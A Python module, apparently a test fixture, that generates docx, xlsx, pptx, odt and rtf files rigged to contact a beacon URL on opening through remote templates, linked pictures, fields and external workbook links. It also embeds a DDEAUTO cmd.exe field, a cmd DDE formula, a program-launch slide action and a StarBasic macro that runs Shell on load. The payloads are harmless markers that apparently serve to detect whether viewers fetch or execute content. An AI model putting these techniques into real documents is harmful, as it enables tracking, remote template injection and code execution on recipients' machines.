"""Office files that ask for things when they are opened: pictures, templates, data, programs."""

# ruff: noqa: E501 - markup

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from beacon import Beacon

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006"
_RELATIONS = f"{_OFFICE}/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_SLIDES = "http://schemas.openxmlformats.org/presentationml/2006/main"
_MAIN = "application/vnd.openxmlformats-officedocument"
_ODF = "urn:oasis:names:tc:opendocument:xmlns"
_SPACES = (
    f'xmlns:office="{_ODF}:office:1.0" xmlns:text="{_ODF}:text:1.0" xmlns:draw="{_ODF}:drawing:1.0" '
    f'xmlns:table="{_ODF}:table:1.0" xmlns:script="{_ODF}:script:1.0" xmlns:svg="{_ODF}:svg-compatible:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dom="http://www.w3.org/2001/xml-events"'
)  # fmt: skip
WORD = "通知"
"""What each of them shows."""


def _packed(parts: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            stored = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, content, stored)
    return out.getvalue()


def _relations(*rows: tuple[str, str, str, bool]) -> str:
    """Id, kind, target, whether it lies elsewhere."""
    mode = ("", ' TargetMode="External"')
    inside = "".join(
        f'<Relationship Id="{id_}" Type="{_RELATIONS}/{kind}" Target="{target}"{mode[elsewhere]}/>'
        for id_, kind, target, elsewhere in rows
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}/relationships">{inside}</Relationships>'


def _types(**parts: str) -> str:
    inside = "".join(
        f'<Override PartName="/{name.replace("__", "/")}.xml" ContentType="{_MAIN}.{kind}+xml"/>'
        for name, kind in parts.items()
    )
    return (
        f'<?xml version="1.0"?><Types xmlns="{_PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{inside}</Types>'
    )  # fmt: skip


def letter(beacon: Beacon) -> bytes:
    """docx: a template, pictures by link and by field, an object and a part that lie elsewhere."""
    url = beacon.url
    picture = (
        f'<w:r><w:drawing><wp:inline xmlns:wp="{_DRAWING}/wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/>'
        f'<wp:docPr id="1" name="a"/><a:graphic xmlns:a="{_DRAWING}/main"><a:graphicData uri="{_DRAWING}/picture">'
        f'<pic:pic xmlns:pic="{_DRAWING}/picture"><pic:nvPicPr><pic:cNvPr id="1" name="a"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:link="rPic" r:embed="rPic"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr>'
        '<a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )  # fmt: skip
    field = "".join(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {code} '
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for code in (f"INCLUDEPICTURE &quot;{url}field.png&quot; \\d", f"INCLUDETEXT &quot;{url}text&quot;",
                     "DDEAUTO c:\\\\cmd.exe &quot;/k x&quot;", f"LINK Word.Document &quot;{url}link&quot; \\a")
    )  # fmt: skip
    body = (
        f'<w:p><w:r><w:t>{WORD}</w:t></w:r></w:p><w:p>{picture}</w:p>{field}<w:altChunk r:id="rChunk"/>'
        '<w:p><w:hyperlink r:id="rLink"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>'
    )
    return _packed({
        "[Content_Types].xml": _types(word__document="wordprocessingml.document.main",
                                      word__settings="wordprocessingml.settings"),
        "_rels/.rels": _relations(("r1", "officeDocument", "word/document.xml", False)),
        "word/document.xml": f'<?xml version="1.0"?><w:document xmlns:w="{_WORD}" xmlns:r="{_RELATIONS}">'
                             f"<w:body>{body}</w:body></w:document>",
        "word/settings.xml": f'<?xml version="1.0"?><w:settings xmlns:w="{_WORD}" xmlns:r="{_RELATIONS}">'
                             '<w:attachedTemplate r:id="rTemplate"/><w:updateFields w:val="true"/></w:settings>',
        "word/_rels/settings.xml.rels": _relations(("rTemplate", "attachedTemplate", f"{url}a.dotm", True)),
        "word/_rels/document.xml.rels": _relations(
            ("rSet", "settings", "settings.xml", False), ("rPic", "image", f"{url}a.png", True),
            ("rChunk", "aFChunk", f"{url}chunk.html", True), ("rLink", "hyperlink", f"{url}link", True)),
    })  # fmt: skip


def table(beacon: Beacon) -> bytes:
    """xlsx: functions that ask a server, another workbook, a picture and a program."""
    url = beacon.url
    cells = (
        f'<row r="1"><c r="A1" t="inlineStr"><is><t>{WORD}</t></is></c></row>'
        f'<row r="2"><c r="A2"><f>WEBSERVICE("{url}web")</f></c><c r="B2"><f>[1]Sheet1!A1</f></c></row>'
        f'<row r="3"><c r="A3"><f>HYPERLINK("{url}link","x")</f></c><c r="B3"><f>cmd|\'/c x\'!A1</f></c></row>'
    )
    return _packed({
        "[Content_Types].xml": _types(xl__workbook="spreadsheetml.sheet.main",
                                      xl__worksheets__sheet1="spreadsheetml.worksheet",
                                      xl__externalLinks__externalLink1="spreadsheetml.externalLink",
                                      xl__drawings__drawing1="drawing"),
        "_rels/.rels": _relations(("r1", "officeDocument", "xl/workbook.xml", False)),
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook xmlns="{_SHEET}" xmlns:r="{_RELATIONS}"><sheets>'
                           '<sheet name="Sheet1" sheetId="1" r:id="r1"/></sheets><externalReferences>'
                           '<externalReference r:id="r2"/></externalReferences>'
                           '<calcPr fullCalcOnLoad="1"/></workbook>',
        "xl/_rels/workbook.xml.rels": _relations(("r1", "worksheet", "worksheets/sheet1.xml", False),
                                                 ("r2", "externalLink", "externalLinks/externalLink1.xml", False)),
        "xl/externalLinks/externalLink1.xml": f'<?xml version="1.0"?><externalLink xmlns="{_SHEET}" xmlns:r="{_RELATIONS}">'
                                              '<externalBook r:id="r1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
                                              "</externalBook></externalLink>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": _relations(("r1", "externalLinkPath", f"{url}b.xlsx", True)),
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?><worksheet xmlns="{_SHEET}" xmlns:r="{_RELATIONS}">'
                                    f'<sheetData>{cells}</sheetData><drawing r:id="r1"/></worksheet>',
        "xl/worksheets/_rels/sheet1.xml.rels": _relations(("r1", "drawing", "../drawings/drawing1.xml", False)),
        "xl/drawings/drawing1.xml": f'<?xml version="1.0"?><x:wsDr xmlns:x="{_DRAWING}/spreadsheetDrawing" '
                                    f'xmlns:a="{_DRAWING}/main" xmlns:r="{_RELATIONS}"><x:oneCellAnchor><x:from><x:col>2</x:col>'
                                    "<x:colOff>0</x:colOff><x:row>2</x:row><x:rowOff>0</x:rowOff></x:from>"
                                    '<x:ext cx="900000" cy="900000"/><x:pic><x:nvPicPr><x:cNvPr id="2" name="a"/><x:cNvPicPr/>'
                                    '</x:nvPicPr><x:blipFill><a:blip r:link="r1"/></x:blipFill><x:spPr>'
                                    '<a:prstGeom prst="rect"/></x:spPr></x:pic><x:clientData/></x:oneCellAnchor></x:wsDr>',
        "xl/drawings/_rels/drawing1.xml.rels": _relations(("r1", "image", f"{url}c.png", True)),
    })  # fmt: skip


def slides(beacon: Beacon) -> bytes:
    """pptx: a picture, a film and a link that lie elsewhere, and an action that starts a program."""
    url = beacon.url
    words = (
        '<p:sp><p:nvSpPr><p:cNvPr id="2" name="t"><a:hlinkClick r:id="rLink" action="ppaction://program"/></p:cNvPr>'
        '<p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="900000" y="900000"/><a:ext cx="4000000" cy="900000"/>'
        '</a:xfrm><a:prstGeom prst="rect"/></p:spPr><p:txBody><a:bodyPr/><a:p><a:r>'
        f"<a:t>{WORD}</a:t></a:r></a:p></p:txBody></p:sp>"
    )
    picture = (
        '<p:pic><p:nvPicPr><p:cNvPr id="3" name="v"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="rFilm"/></p:nvPr></p:nvPicPr>'
        '<p:blipFill><a:blip r:link="rPic"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm>'
        '<a:off x="900000" y="3000000"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></p:spPr></p:pic>'
    )  # fmt: skip
    tree = f"<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id='1' name=''/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>{words}{picture}</p:spTree></p:cSld>"
    spaces = f'xmlns:p="{_SLIDES}" xmlns:a="{_DRAWING}/main" xmlns:r="{_RELATIONS}"'
    return _packed({
        "[Content_Types].xml": _types(ppt__presentation="presentationml.presentation.main",
                                      ppt__slides__slide1="presentationml.slide"),
        "_rels/.rels": _relations(("r1", "officeDocument", "ppt/presentation.xml", False)),
        "ppt/presentation.xml": f'<?xml version="1.0"?><p:presentation {spaces}><p:sldIdLst><p:sldId id="256" r:id="r1"/>'
                                '</p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/></p:presentation>',
        "ppt/_rels/presentation.xml.rels": _relations(("r1", "slide", "slides/slide1.xml", False)),
        "ppt/slides/slide1.xml": f'<?xml version="1.0"?><p:sld {spaces}>{tree}</p:sld>',
        "ppt/slides/_rels/slide1.xml.rels": _relations(
            ("rPic", "image", f"{url}d.png", True), ("rFilm", "video", f"{url}d.mp4", True),
            ("rLink", "hyperlink", f"{url}program.exe", True)),
    })  # fmt: skip


def open_letter(beacon: Beacon, touched: Path) -> bytes:
    """odt: remote pictures and sections, and a macro at opening that would make the file ``touched``."""
    url = beacon.url
    listener = (
        "<office:event-listeners>" + "".join(
            f'<script:event-listener script:language="ooo:script" script:event-name="dom:{event}" '
            'xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/>'
            for event in ("load", "DOMContentLoaded", "print")
        ) + "</office:event-listeners>"
    )  # fmt: skip
    content = (
        f'<?xml version="1.0"?><office:document-content {_SPACES} office:version="1.3"><office:scripts>{listener}</office:scripts>'
        f"<office:body><office:text><text:p>{WORD}</text:p><text:p><draw:frame svg:width='3cm' svg:height='3cm'>"
        f"<draw:image xlink:href='{url}e.png' xlink:type='simple' xlink:actuate='onLoad'/></draw:frame></text:p>"
        f"<text:section text:name='s'><text:section-source xlink:href='{url}e.odt'/><text:p>x</text:p></text:section>"
        f"<text:p><draw:frame svg:width='3cm' svg:height='3cm'><draw:floating-frame xlink:href='{url}e.html'/></draw:frame>"
        f"<draw:frame svg:width='3cm' svg:height='3cm'><draw:plugin xlink:href='{url}e.mp4'/></draw:frame></text:p>"
        "</office:text></office:body></office:document-content>"
    )  # fmt: skip
    basic = f'Sub Main\nShell("/usr/bin/touch", 0, "{touched}")\nEnd Sub'
    basic = basic.replace('"', "&quot;")
    head = '<?xml version="1.0"?>'
    library = "http://openoffice.org/2000/library"
    return _packed({
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": content,
        "META-INF/manifest.xml": f'{head}<manifest:manifest xmlns:manifest="{_ODF}:manifest:1.0" manifest:version="1.3">'
                                 + "".join(f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{kind}"/>'
                                           for path, kind in (("/", "application/vnd.oasis.opendocument.text"),
                                                              ("content.xml", "text/xml"), ("Basic/script-lc.xml", "text/xml"),
                                                              ("Basic/Standard/script-lb.xml", "text/xml"),
                                                              ("Basic/Standard/M.xml", "text/xml")))
                                 + "</manifest:manifest>",
        "Basic/script-lc.xml": f'{head}<library:libraries xmlns:library="{library}"><library:library library:name="Standard" '
                               'library:link="false"/></library:libraries>',
        "Basic/Standard/script-lb.xml": f'{head}<library:library xmlns:library="{library}" library:name="Standard" '
                                        'library:readonly="false" library:passwordprotected="false">'
                                        '<library:element library:name="M"/></library:library>',
        "Basic/Standard/M.xml": f'{head}<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" '
                                f'script:language="StarBasic">{basic}</script:module>',
    })  # fmt: skip


def old_letter(beacon: Beacon) -> bytes:
    """rtf: a template, a picture and an object that lie elsewhere."""
    url = beacon.url
    return (
        rf"{{\rtf1\ansi{{\*\template {url}a.dot}}{{\fonttbl{{\f0 Arial;}}}}\f0 Notice\par"
        rf'{{\field{{\*\fldinst INCLUDEPICTURE "{url}f.png" \\d}}{{\fldrslt x}}}}\par'
        rf'{{\field{{\*\fldinst HYPERLINK "{url}link"}}{{\fldrslt link}}}}\par'
        rf"{{\object\objautlink\objupdate\objw900\objh900{{\*\objclass Word.Document}}"
        rf"{{\*\objdata {url.encode().hex()}}}}}}}"
    ).encode()


def all_of_them(beacon: Beacon, touched: Path) -> dict[str, bytes]:
    return {
        "通知.docx": letter(beacon),
        "表.xlsx": table(beacon),
        "演示.pptx": slides(beacon),
        "开放.odt": open_letter(beacon, touched),
        "旧式.rtf": old_letter(beacon),
    }
